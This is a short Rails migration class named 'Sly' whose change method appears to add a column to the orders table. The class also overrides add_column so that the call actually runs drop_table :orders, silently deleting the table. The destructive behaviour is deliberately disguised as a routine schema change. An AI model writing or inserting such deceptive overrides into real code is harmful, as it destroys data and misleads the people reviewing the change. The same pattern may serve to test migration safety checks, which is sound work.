class Sly < ActiveRecord::Migration[7.0]
  def change
    add_column :orders, :a, :string
  end

  def add_column(*args)
    drop_table :orders
  end
end
